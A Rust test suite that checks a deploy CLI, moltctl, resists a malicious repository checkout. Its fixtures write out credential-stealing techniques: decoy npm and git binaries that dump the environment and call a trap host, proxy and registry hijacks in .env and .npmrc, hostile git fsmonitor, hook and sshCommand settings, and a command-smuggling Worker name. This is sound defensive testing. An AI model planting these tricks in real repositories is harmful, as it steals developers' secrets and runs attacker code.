//! Must show: an evil checkout sends nothing to its author's host and runs nothing of its own with a credential.
//!
//! Everything a checkout can hold that some tool obeys is in there at once. The trap is a host on loopback; its programs
//! write their environment to a folder outside of the checkout and connect to it.

use std::process::Command;

use camino::Utf8PathBuf;
use serde_json::json;

use crate::support::canary::{Canary, assert_absent, assert_absent_below};
use crate::support::sample::{DEPLOY, INIT, PROGRAMS, WORKER, executable, stand_in};
use crate::support::trap::Trap;
use crate::support::{Bench, Output};

/// Programs that a checkout puts in the way of the real ones.
const DECOYS: [&str; 7] = ["wrangler", "npm", "node", "npx", "git", "docker", "op"];

/// A bench with an evil checkout on it.
struct Evil {
    bench: Bench,
    trap: Trap,
}

impl Evil {
    fn new() -> Self {
        let evil = Self { bench: Bench::new(), trap: Trap::new() };
        std::fs::create_dir(evil.outside()).expect("can be made");
        evil.bench.sample();
        evil.honest_programs();
        evil.variables();
        evil.decoys();
        evil.repository();
        evil
    }

    /// Where programs leave what they saw.
    fn outside(&self) -> Utf8PathBuf {
        self.bench.root().join("outside")
    }

    fn seen(&self, name: &str) -> Option<String> {
        std::fs::read_to_string(self.outside().join(name)).ok()
    }

    /// A program of the attacker: it keeps its environment and arguments, and calls home.
    fn trap_program(&self, name: &str) -> String {
        let file = self.outside().join(format!("trap-{name}"));
        format!("#!/bin/sh\n{{ env; printf '%s\\n' \"$@\"; }} >> '{file}'\n{}\nexit 0\n", self.trap.call())
    }

    /// The operator's own programs. They keep what they were given, and npm runs the build of the checkout as the real
    /// one does: its script, in its folder, with the environment that npm has.
    fn honest_programs(&self) {
        let outside = self.outside();
        for program in PROGRAMS {
            let keep = format!("{{ pwd; env; printf '%s\\n' \"$@\"; }} >> '{outside}/own-{program}'");
            let build = "if [ \"$1 $2\" = 'run build' ]; then sh ./build.sh || exit 1; fi";
            let config = format!("if [ \"$1\" = deploy ]; then cat \"$3\" > '{outside}/config'; fi");
            let more = match program {
                "npm" => build,
                "wrangler" => &config,
                _ => "",
            };
            self.bench.program(program, &format!("{keep}\n{more}\n{}", stand_in(program)));
        }
        let build = format!(
            "{{ env; cat; tr '\\0' '\\n' < /proc/$PPID/environ; }} > '{outside}/build' < /dev/stdin\n"
        );
        self.bench.write("build.sh", &build);
    }

    fn variables(&self) {
        let host = self.trap.address();
        let lines = format!(
            "CLOUDFLARE_API_BASE_URL=http://{host}/client/v4\nCF_API_BASE_URL=http://{host}/client/v4\n\
             CLOUDFLARE_ACCOUNT_ID=ffffffffffffffffffffffffffffffff\nHTTP_PROXY=http://{host}\nHTTPS_PROXY=http://{host}\n\
             ALL_PROXY=http://{host}\nhttp_proxy=http://{host}\nhttps_proxy=http://{host}\nNODE_OPTIONS=--require=./evil.cjs\n\
             npm_config_registry=http://{host}/\nWRANGLER_DOCKER_BIN=./node_modules/.bin/docker\nMOLTCTL_API=http://{host}\n"
        );
        for file in [".env", ".env.local", ".env.production", ".dev.vars"] {
            self.bench.write(file, &lines);
        }
        let npmrc =
            format!("registry=http://{host}/\nscript-shell=./node_modules/.bin/node\nproxy=http://{host}\n");
        self.bench.write(".npmrc", &npmrc);
        self.bench.write(
            "evil.json",
            &json!({ "name": "evil", "build": { "command": self.trap.call() } }).to_string(),
        );
        self.bench.write(".wrangler/deploy/config.json", r#"{"configPath":"../../evil.json"}"#);
    }

    fn decoys(&self) {
        for name in DECOYS {
            let path = self.bench.write(&format!("node_modules/.bin/{name}"), &self.trap_program(name));
            executable(&path);
        }
    }

    /// A repository whose configuration names programs.
    fn repository(&self) {
        let checkout = self.bench.checkout();
        let status = Command::new("git")
            .args(["init", "--quiet"])
            .current_dir(&checkout)
            .status()
            .expect("git starts");
        assert!(status.success());
        for name in ["fsmonitor", "hook", "pager", "ssh", "filter"] {
            executable(&self.bench.write(&format!(".git/evil/{name}"), &self.trap_program(name)));
        }
        executable(&self.bench.write(".git/evil/post-index-change", &self.trap_program("post-index-change")));
        let evil = checkout.join(".git/evil");
        let config = format!(
            "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {evil}/fsmonitor\n\thooksPath = {evil}\n\tpager = {evil}/pager\n\
             \tsshCommand = {evil}/ssh\n[filter \"x\"]\n\tclean = {evil}/filter\n\tprocess = {evil}/filter\n"
        );
        self.bench.write(".git/config", &config);
        self.bench.write(".gitattributes", "* filter=x\n");
        let ignored = std::fs::read_to_string(checkout.join(".gitignore")).expect("the sample has one");
        self.bench.write(".gitignore", &format!("{ignored}\ngateway.token\n"));
    }

    /// Runs moltctl as an operator whose search path begins with the checkout's programs.
    fn moltctl(&self, args: &[&str], stdin: &str, key: &Canary) -> Output {
        let path = format!(
            "node_modules/.bin:{}/node_modules/.bin:{}/bin:/usr/local/bin:/usr/bin:/bin",
            self.bench.checkout(),
            self.bench.root()
        );
        self.bench.moltctl_with(args, stdin.as_bytes(), &[("PATH", &path), ("ANTHROPIC_API_KEY", &key.value)])
    }

    /// Nothing of the checkout ran but its build, and nobody called home.
    fn assert_untouched(&self) {
        let ran: Vec<String> = self
            .outside()
            .read_dir_utf8()
            .expect("can be listed")
            .map(|entry| entry.expect("can be listed").file_name().to_owned())
            .filter(|name| name.starts_with("trap-"))
            .collect();
        assert_eq!(ran, Vec::<String>::new(), "programs of the checkout ran");
        assert_eq!(self.trap.caught(), Vec::<String>::new(), "the trap was called");
    }

    fn operators(&self) -> Canary {
        Canary::known("CLOUDFLARE_API_TOKEN", self.bench.token())
    }
}

/// Promise: every command works in an evil checkout as in another one. Its build is run, without a credential in its
/// environment; nothing else of it runs, and its host hears nothing.
#[test]
fn an_evil_checkout_runs_nothing_with_a_credential_and_sends_nothing_home() {
    let evil = Evil::new();
    let twenty = Canary::twenty();
    let key =
        twenty.iter().find(|canary| canary.slot == "ANTHROPIC_API_KEY").expect("is one of them").clone();
    let all: serde_json::Map<_, _> = twenty.iter().map(|it| (it.slot.to_owned(), json!(it.value))).collect();
    let all = serde_json::Value::Object(all).to_string();
    let init = [&INIT[..], &["--gateway-token-file", "gateway.token"]].concat();
    let dry = [&DEPLOY[..], &["--dry-run"]].concat();
    let stories: [(&[&str], &str, &[i32]); 14] = [
        (&init, "", &[0]),
        (&["pin", "show"], "", &[0]),
        (&["pin", "verify"], "", &[0, 1]),
        (&["whoami"], "", &[0]),
        (&dry, "", &[0]),
        (&DEPLOY, "", &[0]),
        (&["secrets", "list"], "", &[0]),
        (&["secrets", "check"], "", &[0, 10]),
        (&["secrets", "push", "-", "--yes"], &all, &[0]),
        (&["access", "plan"], "", &[0]),
        (&["access", "verify"], "", &[0]),
        (&["status"], "", &[0, 1, 2, 10]),
        (&["journal", "list"], "", &[0]),
        (&DEPLOY, "", &[0]),
    ];
    for (args, stdin, codes) in stories {
        let output = evil.moltctl(args, stdin, &key);
        assert!(codes.contains(&output.code), "{args:?}:\n{}", output.all());
    }
    evil.assert_untouched();
    let canaries = [twenty, vec![evil.operators()]].concat();
    let build = evil.seen("build").expect("the build of the checkout ran");
    assert!(build.contains("PATH="), "its environment was kept:\n{build}");
    assert_absent(&canaries, build.as_bytes(), "the environment of the checkout's build");
    assert!(!build.contains("CLOUDFLARE_"), "{build}");
    let wrangler = evil.seen("own-wrangler").expect("wrangler ran");
    assert!(
        canaries.last().expect("the token").found_in(wrangler.as_bytes()).is_some(),
        "wrangler has to hold the token"
    );
    let host = evil.trap.address();
    for own in ["own-wrangler", "own-npm"] {
        let seen = evil.seen(own).expect("it ran");
        assert!(!seen.contains(&host) && !seen.contains("NODE_OPTIONS"), "{own} was steered:\n{seen}");
    }
    // wrangler reads `.env` and the redirect of its working directory.
    assert!(!wrangler.lines().any(|line| line == evil.bench.checkout()), "wrangler ran in the checkout");
    let config = evil.seen("config").expect("wrangler was given a configuration");
    assert!(!config.contains("[build]") && !config.contains("command"), "{config}");
    let own_files =
        ["own-wrangler", "own-npm", "own-node", "own-docker", "build"].map(|name| evil.outside().join(name));
    assert_absent_below(&canaries, evil.bench.root(), &own_files);
}

/// Promise: a build command that is more than a script's name is not run by anybody.
#[test]
fn an_evil_build_command_is_refused() {
    let evil = Evil::new();
    let key = Canary::for_slot("ANTHROPIC_API_KEY");
    let ran = evil.outside().join("trap-command");
    let command = format!("env > {ran}; {}", evil.trap.call());
    let jsonc =
        std::fs::read_to_string(evil.bench.checkout().join("wrangler.jsonc")).expect("the sample has one");
    let jsonc = jsonc.replace("\"npm run build\"", &json!(command).to_string());
    evil.bench.write("wrangler.jsonc", &jsonc);
    evil.moltctl(&INIT, "", &key).expect(0);
    let output = evil.moltctl(&DEPLOY, "", &key).expect(2);
    assert!(output.stderr.contains("build.command"), "{}", output.stderr);
    assert_eq!(evil.bench.writes(), [], "nothing was changed");
    evil.assert_untouched();
}

/// Promise: a configuration cannot choose an account that the operator did not choose, nor a Worker whose name is a
/// command.
#[test]
fn an_evil_account_or_name_gets_nowhere() {
    let key = Canary::for_slot("ANTHROPIC_API_KEY");
    let with = |from: &str, to: &str| {
        let evil = Evil::new();
        let jsonc = std::fs::read_to_string(evil.bench.checkout().join("wrangler.jsonc"))
            .expect("the sample has one");
        assert!(jsonc.contains(from));
        evil.bench.write("wrangler.jsonc", &jsonc.replace(from, to));
        evil
    };
    let evil = with("\"main\":", "\"account_id\": \"ffffffffffffffffffffffffffffffff\",\n  \"main\":");
    evil.moltctl(&INIT, "", &key);
    let output = evil.moltctl(&DEPLOY, "", &key);
    assert!([2, 4].contains(&output.code), "{}", output.all());
    assert_eq!(evil.bench.writes(), [], "nothing was changed anywhere");
    evil.assert_untouched();
    let name =
        format!("\"name\": {}", json!(format!("x; touch {}/trap-name; $(id)", with("", "").outside())));
    let evil = with("\"name\": \"moltbot-sandbox\"", &name);
    let output = evil.moltctl(&INIT, "", &key).expect(2);
    assert!(output.stderr.contains("--worker"), "{}", output.stderr);
    let output = evil.moltctl(&DEPLOY, "", &key).expect(2);
    assert!(!output.stderr.contains("$(id)"), "{}", output.stderr);
    assert_eq!(evil.bench.writes(), []);
    evil.assert_untouched();
}

/// Promise: moltctl.toml cannot name hosts, programs, places or secrets; the line is named, and nothing is sent.
#[test]
fn an_evil_moltctl_toml_is_refused_with_its_line() {
    let evil = Evil::new();
    let key = Canary::for_slot("ANTHROPIC_API_KEY");
    let host = evil.trap.address();
    evil.moltctl(&INIT, "", &key).expect(0);
    evil.bench.account().clear_requests();
    let lines = [
        format!("api_base_url = \"http://{host}\""),
        format!("endpoint = \"http://{host}\""),
        "wrangler_path = \"./node_modules/.bin/wrangler\"".to_owned(),
        "build_command = \"./evil\"".to_owned(),
        "output = \"/etc/passwd\"".to_owned(),
        "state_dir = \"..\"".to_owned(),
        format!("api_token = \"{}\"", key.value),
        "not_a_key = 1".to_owned(),
    ];
    for line in lines {
        evil.bench.write("moltctl.toml", &format!("version = 1\n\n{line}\n"));
        for args in
            [&INIT[..], &DEPLOY, &["secrets", "list"], &["whoami"], &["access", "plan"], &["pin", "show"]]
        {
            let output = evil.moltctl(args, "", &key);
            // What does not read the file need not refuse it.
            if args == ["pin", "show"] && output.code == 0 {
                continue;
            }
            assert_eq!(output.code, 2, "{line} {args:?}:\n{}", output.all());
            assert!(output.stderr.contains("line 3"), "{line} {args:?}: {}", output.stderr);
            assert_absent(std::slice::from_ref(&key), output.all().as_bytes(), "the refusal");
        }
    }
    assert_eq!(evil.bench.account().requests(), [], "the credential was not used");
    evil.assert_untouched();
}

/// Promise: a file that is no file hangs nothing and is not read, and one that lies elsewhere is not written or shown.
#[test]
fn a_file_that_is_none_hangs_nothing() {
    let key = Canary::for_slot("ANTHROPIC_API_KEY");
    for name in
        ["moltctl.toml", "wrangler.toml", "wrangler.jsonc", "moltctl.lock", "package.json", ".gitignore"]
    {
        let evil = Evil::new();
        let path = evil.bench.checkout().join(name);
        let _absent = std::fs::remove_file(&path);
        let status = Command::new("mkfifo").arg(&path).status().expect("mkfifo starts");
        assert!(status.success());
        // A run that hangs is killed after a minute, with status -1.
        let output = evil.moltctl(&INIT, "", &key);
        assert!([1, 2].contains(&output.code), "{name}:\n{}", output.all());
        assert!(output.stderr.contains("not a regular file"), "{name}: {}", output.stderr);
        evil.assert_untouched();
    }
    let evil = Evil::new();
    let secret = Canary::for_slot("CDP_SECRET");
    let elsewhere = evil.outside().join("id_ed25519");
    std::fs::write(&elsewhere, &secret.value).expect("can be written");
    std::os::unix::fs::symlink(&elsewhere, evil.bench.checkout().join("wrangler.toml"))
        .expect("can be linked");
    for args in [&INIT[..], &DEPLOY, &["secrets", "list"]] {
        let output = evil.moltctl(args, "", &key);
        assert_ne!(output.code, 0, "{args:?}:\n{}", output.all());
        assert_absent(std::slice::from_ref(&secret), output.all().as_bytes(), "the refusal");
    }
    assert_eq!(std::fs::read_to_string(&elsewhere).expect("is there"), secret.value, "it was not written");
    assert_eq!(evil.bench.writes(), []);
}

/// Promise: a link in the place of a file that moltctl writes is not written through.
#[test]
fn a_link_is_not_written_through() {
    let key = Canary::for_slot("ANTHROPIC_API_KEY");
    for name in ["wrangler.toml", "moltctl.toml", "moltctl.lock", ".gitignore", "Dockerfile", "package.json"]
    {
        let evil = Evil::new();
        let (path, elsewhere) = (evil.bench.checkout().join(name), evil.outside().join("kept"));
        let before = std::fs::read_to_string(&path).unwrap_or_else(|_| {
            if name.starts_with("wrangler") {
                format!("name = \"{WORKER}\"\nmain = \"src/index.ts\"\n")
            } else {
                "version = 1\n".into()
            }
        });
        let _absent = std::fs::remove_file(&path);
        std::fs::write(&elsewhere, &before).expect("can be written");
        std::os::unix::fs::symlink(&elsewhere, &path).expect("can be linked");
        let output = evil.moltctl(&INIT, "", &key);
        assert_eq!(
            std::fs::read_to_string(&elsewhere).expect("is there"),
            before,
            "{name} was written through"
        );
        assert_ne!(output.code, 0, "{name}: a file that cannot be written is no success\n{}", output.all());
        evil.assert_untouched();
    }
}

/// Control: the traps are real ones. Called directly they run and are heard, so that silence means something.
#[test]
fn the_traps_work() {
    let evil = Evil::new();
    let checkout = evil.bench.checkout();
    let mut run = Command::new("sh");
    run.args(["-c", "wrangler deploy; git status; /usr/bin/env -u PATH true"]).current_dir(&checkout);
    run.env("PATH", format!("{checkout}/node_modules/.bin:/usr/bin:/bin"))
        .env("CLOUDFLARE_API_TOKEN", evil.bench.token());
    run.output().expect("sh starts");
    assert!(evil.operators().found_in(evil.seen("trap-wrangler").expect("it ran").as_bytes()).is_some());
    assert!(evil.seen("trap-git").is_some());
    assert!(!evil.trap.caught().is_empty());
    let git = Command::new("git").args(["status"]).current_dir(&checkout).output().expect("git starts");
    assert!(evil.seen("trap-fsmonitor").is_some(), "{}", String::from_utf8_lossy(&git.stderr));
    let secret = Canary::for_slot("CDP_SECRET");
    let mut build = Command::new("sh");
    build.arg("build.sh").current_dir(&checkout).env("CDP_SECRET", &secret.value);
    assert!(build.output().expect("sh starts").status.success());
    assert!(secret.found_in(evil.seen("build").expect("it ran").as_bytes()).is_some());
}
